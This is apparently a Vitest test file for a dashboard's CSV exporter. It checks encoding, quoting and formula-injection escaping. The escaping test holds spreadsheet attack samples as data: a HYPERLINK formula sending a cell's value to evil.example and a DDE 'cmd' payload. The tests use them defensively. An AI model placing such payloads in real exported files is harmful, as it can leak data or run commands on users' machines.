import { describe, expect, it } from 'vitest';
import { toCsv } from '../../web/dashboard/csv';

/** The cells of a one-row document, unquoted as a spreadsheet reads them. */
const cells = (row: (string | number | null)[]) => toCsv([row]).slice(1, -2);

describe('toCsv', () => {
  it('starts with a byte order mark, separates with commas and CRLF, and doubles quotes', () => {
    expect(
      toCsv([
        ['name', 'talks'],
        ['王特 "亦夏"', 6],
        ['a,b', null],
      ]),
    ).toBe('\uFEFFname,talks\r\n"王特 ""亦夏""",6\r\n"a,b",\r\n');
  });

  it('opens a text cell that a spreadsheet would take for a formula as text, with a leading quote', () => {
    expect(cells(['=HYPERLINK("http://evil.example/?"&A1,"click")'])).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(cells(["+1+cmd|' /C calc'!A0"])).toBe("'+1+cmd|' /C calc'!A0");
    expect(cells(['-2+3'])).toBe("'-2+3");
    expect(cells(['@SUM(1,2)'])).toBe(`"'@SUM(1,2)"`);
    expect(cells(['\t=1+1'])).toBe("'\t=1+1");
    expect(cells(['\r=1+1'])).toBe(`"'\r=1+1"`);
  });

  it('leaves numbers, negative ones included, and text with a sign inside it as they are', () => {
    expect(cells([-3, 0, 'Seata 2.0 - the next step', 'a=b', 'C++'])).toBe('-3,0,Seata 2.0 - the next step,a=b,C++');
  });
});
